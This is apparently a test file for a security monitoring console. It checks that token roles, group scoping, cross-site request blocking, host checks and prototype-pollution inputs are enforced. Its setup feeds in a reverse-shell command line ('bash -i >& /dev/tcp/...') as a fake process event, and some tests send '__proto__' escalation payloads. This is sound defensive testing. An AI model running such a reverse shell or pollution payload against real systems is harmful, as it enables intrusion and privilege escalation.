/** What somebody tries who has a foot in the door: a token, a role, a group, a page on another site, a crafted request. */
import assert from 'node:assert/strict'
import { request } from 'node:http'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { Database, SqliteAlertStore } from '@rampart/alert'
import { batchResponses, type Route, type RouteName, routes } from '@rampart/api'
import { migrations } from '../store/migrations.ts'
import { queries } from '../testing/route-examples.ts'
import { enrolAgent, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'

const password = 'correct horse battery'
let shared: TestServer
let admin: TestConsole
let agent: TestAgent
let alert: { id: string; version: number; type: string }

before(async () => {
  shared = await startTestServer()
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.begin(shared.server.firstUser ?? { name: '', password: '' }, password)
  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  const opened = Database.open(join(shared.directory, 'state', 'rampart.db'), migrations)
  assert.ok(opened.ok)
  await new SqliteAlertStore(opened.database).saveAsset({ id: agent.enrolment.assetId, group: 'red' }, Date.now())
  opened.database.close()
  await agent.connect()
  await agent.deliver(1, [agent.started(1, 'bash -i >& /dev/tcp/198.51.100.1/1', 4242, '/usr/bin/bash')])
  alert = (await admin.call('listAlerts')).body.items[0]
})
after(async () => {
  agent?.cut()
  await shared?.end()
})

async function withToken(body: object): Promise<TestConsole> {
  const caller = new TestConsole(shared.server.consoleUrl)
  caller.bearer = (await admin.call('createToken', { body: { title: 'x', ...body } })).body.text
  return caller
}

/** A request as no browser sends it: every header as given. */
function raw(method: string, path: string, headers: Record<string, string>, body = ''): Promise<number> {
  return new Promise((resolve, reject) => {
    const sent = request(`${shared.server.consoleUrl}${path}`, { method, headers }, (response) => {
      response.resume()
      resolve(response.statusCode ?? 0)
    })
    sent.on('error', reject)
    sent.end(body)
  })
}

test('the role of a token is a ceiling in batches too', async () => {
  const analyst = await withToken({ role: 'analyst' })
  for (const operation of batchResponses) {
    const { status, body } = await analyst.call('startBatch', { body: { operation, alerts: [alert] } })
    assert.deepEqual([status, body.code], [403, 'session.not-allowed'], operation)
  }
})

test('upgrading an agent needs the role of the token too, not only that of its user', async () => {
  const responder = await withToken({ role: 'responder' })
  const asked = { id: agent.enrolment.assetId, body: { name: 'upgrade agent' } }
  assert.equal((await responder.call('respondOnAsset', asked)).body.code, 'session.not-allowed')
  const administrator = await withToken({ role: 'administrator' })
  assert.equal((await administrator.call('respondOnAsset', asked)).body.code, 'response.not-offered')
})

test('a token bound to groups has nothing to do with what its user did elsewhere', async () => {
  const begun = await admin.call('startBatch', { body: { operation: 'ignore', alerts: [alert] } })
  assert.equal(begun.status, 200)
  const { id } = begun.body
  for (let tries = 0; tries < 200 && (await admin.call('getBatch', { id })).body.state === 'running'; tries++)
    await new Promise((resolve) => setTimeout(resolve, 10))
  const blue = await withToken({ role: 'responder', groups: ['blue'] })
  const red = await withToken({ role: 'responder', groups: ['red'] })
  for (const name of ['getBatch', 'listBatchItems', 'cancelBatch', 'undoBatch'] as const)
    assert.equal((await blue.call(name, { id })).status, 404, name)
  assert.equal((await red.call('getBatch', { id })).status, 200)
  assert.equal((await red.call('undoBatch', { id })).status, 200)
})

test('bringing back a rule that is none of mine changes nothing', async () => {
  const condition = { field: 'process.executable', operator: 'equals', value: '/usr/bin/example' }
  const made = await admin.call('createWhitelistRule', {
    body: { conditions: [condition], about: { type: alert.type }, on: { group: 'red' }, reason: 'x' },
  })
  assert.equal(made.status, 200, JSON.stringify(made.body))
  const { id } = made.body.rule
  const ids = async () => (await admin.call('listWhitelistRules')).body.items.map((rule: { id: string }) => rule.id)
  const blue = await withToken({ role: 'analyst', groups: ['blue'] })
  assert.equal((await blue.call('restoreWhitelistRule', { id })).status, 404)
  assert.deepEqual(await ids(), [id], 'it is in force still')
  await admin.call('deleteWhitelistRule', { id })
  assert.equal((await blue.call('restoreWhitelistRule', { id })).status, 404)
  assert.deepEqual(await ids(), [])
  assert.equal((await admin.call('restoreWhitelistRule', { id })).status, 200)
})

test('the stream is for browsers: a token gets none, and none beside a cookie', async () => {
  const { bearer } = await withToken({ role: 'viewer' })
  for (const cookie of ['', admin.cookie]) {
    const headers = { authorization: `Bearer ${bearer}`, ...(cookie && { cookie }) }
    const answer = await new TestConsole(shared.server.consoleUrl).fetch('GET', '/api/v1/stream', undefined, headers)
    assert.deepEqual([answer.status, answer.body.code], [400, 'token.not-allowed'])
  }
})

test('another site changes nothing, not even who is signed in, whatever it sends', async () => {
  for (const [name, route] of Object.entries<Route>(routes)) {
    if (route.method === 'GET') continue
    const path = route.path.replace(':id', 'none')
    for (const site of ['cross-site', 'same-site']) {
      const answer = await admin.fetch(route.method, path, {}, { 'sec-fetch-site': site })
      assert.deepEqual([answer.status, answer.body.code], [403, 'request.cross-site'], `${name} ${site}`)
    }
  }
  // What a form can send without asking first.
  const signIn = JSON.stringify({ username: 'admin', password })
  for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x'])
    assert.ok([400, 415].includes(await raw('POST', '/api/v1/session', { 'content-type': type }, signIn)), type)
  assert.equal(await raw('GET', '/api/v1/session', { host: 'rebound.example.com' }), 421)
})

test('names of the language itself are plain words in queries and bodies', async () => {
  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty'])
    for (const query of [`${name}=1`, `${name}[x]=1`, `level=${name}`, `level=Urgent&level=${name}`, `sort=${name}`]) {
      const { status } = await admin.fetch('GET', `/api/v1/alerts?${query}`)
      assert.ok(status === 200 || status === 400, `${query}: ${status}`)
      assert.ok((await admin.fetch('GET', `/api/v1/events?${query}&q=${name}:x`)).status < 500, query)
    }
  for (const name of ['constructor', 'toString', 'hasOwnProperty']) {
    const { status, body } = await admin.call('changeSettings', { body: { values: { [name]: 1 } } })
    assert.deepEqual([status, body.code], [400, 'settings.unknown-name'], name)
  }
  const json = { cookie: admin.cookie, 'x-rampart-csrf': admin.csrf, 'content-type': 'application/json' }
  for (const text of ['{"__proto__":{"role":"administrator"}}', '{"constructor":{"prototype":{"x":1}}}'])
    assert.equal(await raw('PATCH', '/api/v1/settings', json, text), 400, text)
  assert.equal(({} as { role?: string }).role, undefined)
})

test('every file is one to save, under a plain name, and leaves a row in the audit trail', async () => {
  for (const [name, route] of Object.entries<Route>(routes)) {
    if (!route.download || route.path.includes(':id')) continue
    const { status, headers } = await admin.fetch('GET', `${route.path}?${queries[name as RouteName] ?? ''}`)
    assert.equal(status, 200, name)
    assert.match(headers.get('content-disposition') ?? '', /^attachment; filename="[\w.-]+"$/, name)
    assert.equal(headers.get('x-content-type-options'), 'nosniff', name)
    assert.match(headers.get('content-security-policy') ?? '', /default-src 'none'/, name)
    const rows = (await admin.call('listAudit', { query: `action=${name}` })).body.items
    assert.equal(rows.length, 1, name)
  }
})
